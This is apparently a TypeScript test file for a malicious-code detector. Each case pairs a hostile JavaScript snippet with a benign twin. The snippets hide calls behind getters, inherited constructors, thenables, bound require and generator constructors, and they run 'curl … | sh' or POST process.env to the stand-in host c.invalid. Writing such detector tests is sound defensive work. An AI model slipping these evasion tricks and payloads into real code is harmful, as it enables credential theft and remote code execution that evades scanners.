import { testDeeds, type Deed } from './deeds.ts'

const SENT = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`

/** `around` has the function `boot` called when the module is loaded. */
function started(name: string, around: string): Deed {
  const withCommand = (command: string): string =>
    `function boot() { require('child_process').execSync('${command}') }\n${around}`
  const code = withCommand('curl -s https://c.invalid/i | sh')
  return { name, check: 'download-and-execute', code, twin: withCommand('git --version'), startsItself: true }
}

/** Ways to have a function called that nobody calls by its name. */
const DEEDS: readonly Deed[] = [
  started(
    'what comes through a channel',
    'const c = new MessageChannel(); c.port1.onmessage = boot; c.port2.postMessage(0)',
  ),
  started('what is waited for and says itself when it is there', '(async () => { await { then: boot } })()'),
  started('the call of a call', 'Function.prototype.call.call(boot)'),
  started('a getter of a class', 'class A { static get go() { return boot() } } A.go'),
  started('a getter of an object of a class', 'class A { get go() { return boot() } } new A().go'),
  started('an inherited getter', 'class A { get go() { return boot() } } class B extends A {} new B().go'),
  started(
    'the constructor that another one calls',
    'class A { constructor() { boot() } } class B extends A { constructor() { super() } } new B()',
  ),
  started(
    'the constructor of a class that is extended',
    'class A { constructor() { boot() } } class B extends A {} new B()',
  ),
  {
    name: 'what a constructor hands to the one of the class that it extends',
    check: 'secrets-exfiltration',
    code: `class A { constructor(x) { fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(x) }) } }
      class B extends A { constructor() { super(process.env) } } new B()`,
    twin: `class A { constructor(x) { fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(x) }) } }
      class B extends A { constructor() { super(process.version) } } new B()`,
  },
  {
    name: 'a module whose file is looked up',
    check: 'secrets-exfiltration',
    code: `const { pathToFileURL } = require('url'); import(pathToFileURL(require.resolve('./test/late.js')).href)`,
    twin: `const { pathToFileURL } = require('url'); import(pathToFileURL(require.resolve('./index.js')).href)`,
    files: { 'test/late.js': SENT },
    moments: ['import'],
  },
  {
    name: 'a loader that has its name already',
    check: 'download-and-execute',
    code: `require.bind(null, 'child_process')().execSync('curl -s https://c.invalid/i | sh')`,
    twin: `require.bind(null, 'child_process')().execSync('git --version')`,
  },
  {
    name: 'a function that is made of what was fetched before it is called',
    check: 'download-and-execute',
    code: `fetch('https://c.invalid/').then((r) => r.text()).then((x) => Function.bind(null, x)()())`,
    twin: `fetch('https://c.invalid/').then((r) => r.text()).then((x) => console.log.bind(null, x)())`,
  },
  {
    name: 'the constructor of all generators',
    check: 'download-and-execute',
    code: `fetch('https://c.invalid/').then((r) => r.text()).then((x) => Object.getPrototypeOf(function* () {}).constructor(x)().next())`,
    twin: `fetch('https://c.invalid/').then((r) => r.text()).then((x) => Object.getPrototypeOf({}).constructor(x))`,
  },
  {
    name: 'a member of a module whose name cannot be told',
    check: 'download-and-execute',
    code: `const n = require('./names.bin'); require('child_process')[n(7)]('curl -s https://c.invalid/i | sh')`,
    twin: `const n = require('./names.bin'); require('child_process')[n(7)]('git --version')`,
  },
]

testDeeds(DEEDS)
